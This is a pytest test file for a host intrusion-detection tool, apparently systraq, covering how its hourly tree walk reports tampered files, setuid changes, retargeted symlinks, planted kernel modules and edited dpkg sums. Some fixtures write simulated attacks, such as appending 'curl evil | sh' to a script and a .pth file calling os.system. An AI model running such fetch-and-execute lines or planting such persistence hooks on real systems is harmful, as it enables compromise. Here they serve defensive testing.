# SPDX-License-Identifier: GPL-2.0-or-later
"""The hourly walk of [check] trees by metadata (trees.py)."""

import os

import pytest

from systraq import accounts, config, packages, records, report, trees
from systraq.spool import Spool


@pytest.fixture
def system(root):
    root.write("/etc/systraq/systraq.conf", "[check]\ntrees = /usr\n    /opt\n    /bin\n")
    root.write("/usr/bin/tool", "#!/bin/sh\necho tool\n", mode=0o755)
    root.write("/usr/lib/python3/dist-packages/mod/__init__.py", "x = 1\n")
    root.write("/usr/share/doc/tool/README", "A tool.\n")
    root.symlink("tool", "/usr/bin/tool-alias")
    root.symlink("usr/bin", "/bin")
    root.write("/opt/app/run", "#!/bin/sh\n", mode=0o755)
    conf = config.load(root.host("/etc/systraq/systraq.conf"))
    first = trees.run(root.settings(), conf)
    assert first.baseline and [r.change for r in first.records] == ["baseline"]
    assert first.count == 16
    return root, conf


def look(system):
    root, conf = system
    return [r.line() for r in trees.run(root.settings(), conf).records]


def test_nothing_changed_is_nothing_said_and_nothing_written(system):
    root, conf = system
    state = trees.state_path(root.settings())
    before = os.stat(state)
    result = trees.run(root.settings(), conf)
    assert result.records == [] and result.count == 16 and not result.baseline
    after = os.stat(state)
    assert (after.st_ino, after.st_size) == (before.st_ino, before.st_size)


def test_added_removed_and_changed_entries(system):
    root, _conf = system
    root.write("/usr/lib/x86_64-linux-gnu/libevil.so.1", b"\x7fELF", mode=0o644)
    os.unlink(root.host("/usr/share/doc/tool/README"))
    with open(root.host("/usr/bin/tool"), "a") as tool:
        tool.write("curl evil | sh\n")
    os.chmod(root.host("/opt/app/run"), 0o4755)
    assert look(system) == [
        "/opt/app/run: mode 0755 -> 4755 [setuid gained]",
        "/usr/bin/tool: content changed (20 -> 35 bytes)",
        "/usr/lib/x86_64-linux-gnu: new directory, mode 0755, "
        f"{_me()} (1 entry below)",
        "/usr/share/doc/tool/README: file removed",
    ]
    assert look(system) == []


def test_a_file_rewritten_with_its_times_set_back_is_seen(system):
    root, _conf = system
    path = root.host("/usr/bin/tool")
    was = os.stat(path)
    with open(path, "r+") as tool:
        tool.write("#!/bin/sh\necho evil\n")
    os.utime(path, ns=(was.st_atime_ns, was.st_mtime_ns))
    assert look(system) == [
        "/usr/bin/tool: inode changed, with its size, times, mode and owner as they were "
        "(an attribute set, or content rewritten with its times set back)"]


def test_a_file_replaced_by_another_of_the_same_size_and_time(system):
    root, _conf = system
    path = root.host("/usr/bin/tool")
    was = os.stat(path)
    root.write("/usr/bin/.tool.new", "#!/bin/sh\necho evil\n", mode=0o755)
    os.utime(root.host("/usr/bin/.tool.new"), ns=(was.st_atime_ns, was.st_mtime_ns))
    os.rename(root.host("/usr/bin/.tool.new"), path)
    assert look(system) == [
        "/usr/bin/tool: replaced by another file, same size and modification time"]


def test_symlinks_types_and_a_top_that_is_a_link(system):
    root, _conf = system
    os.unlink(root.host("/usr/bin/tool-alias"))
    root.symlink("/tmp/evil", "/usr/bin/tool-alias")
    os.unlink(root.host("/bin"))
    root.symlink("/tmp", "/bin")
    os.unlink(root.host("/opt/app/run"))
    root.symlink("/tmp/evil", "/opt/app/run")
    assert look(system) == [
        "/bin: symlink retargeted usr/bin -> /tmp",
        f"/opt/app/run: file replaced by a symlink, {_me()}, pointing to /tmp/evil",
        "/usr/bin/tool-alias: symlink retargeted tool -> /tmp/evil",
    ]
    # A link top is recorded, never followed.
    root.write("/tmp/planted", "x")
    assert look(system) == []


def test_a_new_directory_is_one_entry_and_a_removed_one_too(system):
    root, _conf = system
    for name in ("a", "b", "c/d"):
        root.write(f"/opt/kit/{name}", "x")
    assert look(system) == [f"/opt/kit: new directory, mode 0755, {_me()} (4 entries below)"]
    for name in ("a", "b", "c/d"):
        os.unlink(root.host(f"/opt/kit/{name}"))
    os.rmdir(root.host("/opt/kit/c"))
    os.rmdir(root.host("/opt/kit"))
    os.unlink(root.host("/usr/lib/python3/dist-packages/mod/__init__.py"))
    os.rmdir(root.host("/usr/lib/python3/dist-packages/mod"))
    assert look(system) == ["/opt/kit: directory removed (4 entries below)",
                            "/usr/lib/python3/dist-packages/mod: directory removed "
                            "(1 entry below)"]


def test_what_debian_generates_is_left_out(system):
    root, _conf = system
    root.write("/usr/lib/python3/dist-packages/mod/__pycache__/__init__.cpython-313.pyc", "b")
    assert look(system) == []
    root.write("/usr/lib/python3/dist-packages/evil.pth", "import os; os.system('x')\n")
    assert look(system) == [f"/usr/lib/python3/dist-packages/evil.pth: new file, mode 0644, "
                            f"{_me()}"]


def test_a_critical_path_is_alerted_and_nothing_shows_content(system):
    root, conf = system
    root.write("/usr/lib/python3/dist-packages/evil.pth", "import os; os.system('x')\n")
    found = trees.run(root.settings(), conf, now=2_000_000_000).records
    assert [r.change for r in found] == ["added"]
    assert "os.system" not in str(dict(found[0]))
    assert isinstance(records.load(dict(found[0])), records.TreeChange)
    pending = Spool(root.settings()).pending()
    assert pending
    built = report.gather(root.settings(), conf, now=2_000_000_100, host="h", probe=False)
    warnings = built.warnings
    assert any(item.critical and item.path == "/usr/lib/python3/dist-packages/evil.pth"
               for item in warnings)


def test_excluded_paths_and_other_trees(root):
    root.write("/etc/systraq/systraq.conf",
               "[snapshot]\nexclude = /usr/share/doc\n[check]\ntrees = /usr\n")
    root.write("/usr/bin/tool", "x")
    root.write("/usr/share/doc/tool/README", "x")
    conf = config.load(root.host("/etc/systraq/systraq.conf"))
    assert trees.run(root.settings(), conf).count == 4
    root.write("/usr/share/doc/tool/NEWS", "x")
    assert trees.run(root.settings(), conf).records == []
    root.write("/etc/systraq/systraq.conf", "[check]\ntrees = /usr\n    /srv\n")
    root.write("/srv/www/index.html", "x")
    conf = config.load(root.host("/etc/systraq/systraq.conf"))
    found = trees.run(root.settings(), conf).records
    assert [r.line() for r in found] == [
        "trees walked hourly: [check] trees or exclude changed; 10 entries recorded as they are"]
    assert trees.run(root.settings(), conf).records == []


def test_a_damaged_state_starts_again_and_says_so(system):
    root, conf = system
    with open(trees.state_path(root.settings()), "r+b") as state:
        state.seek(40)
        state.write(b"XXXX")
    found = trees.run(root.settings(), conf).records
    assert [r.change for r in found] == ["state damaged"]
    assert trees.run(root.settings(), conf).records == []


def test_the_state_is_roots_alone(system):
    root, _conf = system
    assert os.stat(trees.state_path(root.settings())).st_mode & 0o777 == 0o600


def _me():
    names = accounts.Names(_SETTINGS[0])
    return f"{names.user(os.getuid())}:{names.group(os.getgid())}"


_SETTINGS = []


@pytest.fixture(autouse=True)
def _names(root):
    """The fake root's names, and the directories the tests make 0755
    whatever the caller's umask (autopkgtest's is 002)."""
    _SETTINGS[:] = [root.settings()]
    old_umask = os.umask(0o022)
    yield
    os.umask(old_umask)


def test_a_critical_file_in_a_new_directory_is_told_on_its_own(root):
    root.write("/etc/systraq/systraq.conf", "[check]\ntrees = /usr\n")
    root.mkdir("/usr/lib/modules/6.12.0-1-amd64")
    conf = config.load(root.host("/etc/systraq/systraq.conf"))
    trees.run(root.settings(), conf)
    root.write("/usr/lib/modules/6.12.0-1-amd64/extra/hid-x.ko", b"\x7fELF")
    root.write("/usr/lib/modules/6.12.0-1-amd64/extra/README", "x")
    found = trees.run(root.settings(), conf).records
    assert [r.line() for r in found] == [
        f"/usr/lib/modules/6.12.0-1-amd64/extra: new directory, mode 0755, {_me()} "
        "(2 entries below)",
        f"/usr/lib/modules/6.12.0-1-amd64/extra/hid-x.ko: new file, mode 0644, {_me()}"]
    assert report._critical(conf, "/usr/lib/modules/6.12.0-1-amd64/extra/hid-x.ko")


def _package(root, name, files):
    """``name`` installed, shipping ``files`` ({logical path: content})."""
    import hashlib
    root.write("/var/lib/dpkg/status", f"Package: {name}\nStatus: install ok installed\n"
               "Architecture: amd64\nVersion: 1.0\n\n")
    dirs = sorted({os.path.dirname(p) for p in files} | {"/usr"})
    root.write(f"/var/lib/dpkg/info/{name}.list", "/.\n" + "".join(
        f"{p}\n" for p in dirs + sorted(files)))
    root.write(f"/var/lib/dpkg/info/{name}.md5sums", "".join(
        f"{hashlib.md5(data.encode()).hexdigest()}  {p[1:]}\n" for p, data in files.items()))


def test_a_changed_package_file_says_whether_it_still_matches_dpkgs_sums(system):
    root, conf = system
    _package(root, "tool", {"/usr/bin/tool": "#!/bin/sh\necho tool\n"})
    # The daily package check read it as shipped.
    packages.run(root.settings(), conf)
    path = root.host("/usr/bin/tool")
    with open(path, "a") as tool:
        tool.write("curl evil | sh\n")
    found = trees.run(root.settings(), conf).records
    assert [r.line() for r in found] == [
        "/usr/bin/tool: content changed (20 -> 35 bytes); differs from tool's sums"]
    assert found[0].rank == records.SERIOUS
    # Put back as it was, its times moved: the same content again.
    with open(path, "w") as tool:
        tool.write("#!/bin/sh\necho tool\n")
    found = trees.run(root.settings(), conf).records
    assert [r.line() for r in found] == [
        "/usr/bin/tool: content changed (35 -> 20 bytes); content as the last package "
        "check read it, matching tool's sums"]
    assert found[0].rank == records.CHANGE
    # The file and dpkg's sums changed together, as an intruder who knows
    # debsums would: never a reassurance.
    with open(path, "w") as tool:
        tool.write("#!/bin/sh\necho evil\n")
    _package(root, "tool", {"/usr/bin/tool": "#!/bin/sh\necho evil\n"})
    found = trees.run(root.settings(), conf).records
    assert [r.line() for r in found] == [
        "/usr/bin/tool: content changed (20 -> 20 bytes); matches tool's sums, but not "
        "what the last package check read (were the sums edited too?)"]
    assert found[0].rank == records.SERIOUS
    # A file no package ships is told as it is.
    with open(root.host("/opt/app/run"), "a") as run:
        run.write("exit 0\n")
    assert [r.line() for r in trees.run(root.settings(), conf).records] == [
        "/opt/app/run: content changed (10 -> 17 bytes)"]


class _OnAnotherDevice:
    """A stat result as a mount point's looks: another device."""

    def __init__(self, info):
        self._info = info

    def __getattr__(self, name):
        return getattr(self._info, name)

    st_dev = property(lambda self: self._info.st_dev + 1)


def test_a_network_file_system_is_not_walked(root, monkeypatch):
    root.write("/etc/systraq/systraq.conf", "[check]\ntrees = /usr\n    /srv\n")
    root.write("/usr/bin/tool", "x")
    root.write("/srv/share/big", "x")
    root.write("/proc/self/mounts", "srv:/export /srv nfs4 rw 0 0\n")
    srv = root.host("/srv")

    def where(path, fd):
        return os.fsencode(path) if fd is None else os.path.join(
            os.readlink(f"/proc/self/fd/{fd}").encode(), os.fsencode(path))
    real_stat, real_fstat = os.stat, os.fstat
    monkeypatch.setattr(os, "stat", lambda path, *a, dir_fd=None, **k: (
        _OnAnotherDevice if where(path, dir_fd) == srv else (lambda i: i))(
            real_stat(path, *a, dir_fd=dir_fd, **k)))
    monkeypatch.setattr(os, "fstat", lambda fd: (
        _OnAnotherDevice if os.readlink(f"/proc/self/fd/{fd}").encode() == srv
        else (lambda i: i))(real_fstat(fd)))
    conf = config.load(root.host("/etc/systraq/systraq.conf"))
    # /usr/bin, its tool and /usr/sbin; nothing below /srv.
    assert trees.run(root.settings(), conf).count == 3
    # Mounted locally, it is walked.
    root.write("/proc/self/mounts", "/dev/sdb1 /srv ext4 rw 0 0\n")
    root.write("/etc/systraq/systraq.conf", "[check]\ntrees = /srv\n    /usr\n")
    conf = config.load(root.host("/etc/systraq/systraq.conf"))
    assert trees.run(root.settings(), conf).count == 5


def test_a_link_replaced_by_a_directory_is_one_entry_and_back_again(system):
    root, _conf = system
    os.unlink(root.host("/bin"))
    for name in ("sh", "ls"):
        root.write(f"/bin/{name}", "x", mode=0o755)
    assert look(system) == [
        f"/bin: symlink replaced by a directory, mode 0755, {_me()} (2 entries below)"]
    for name in ("sh", "ls"):
        os.unlink(root.host(f"/bin/{name}"))
    os.rmdir(root.host("/bin"))
    root.symlink("usr/bin", "/bin")
    assert look(system) == [
        f"/bin: directory replaced by a symlink, {_me()}, pointing to usr/bin "
        "(2 entries below)"]


def test_a_file_others_may_not_read_is_told_without_its_sizes(system):
    root, _conf = system
    root.write("/opt/vault/keys.txt", "k1\n", mode=0o644)
    os.chmod(root.host("/opt/vault"), 0o700)
    look(system)
    with open(root.host("/opt/vault/keys.txt"), "a") as keys:
        keys.write("k2\n")
    assert look(system) == ["/opt/vault/keys.txt: content changed"]
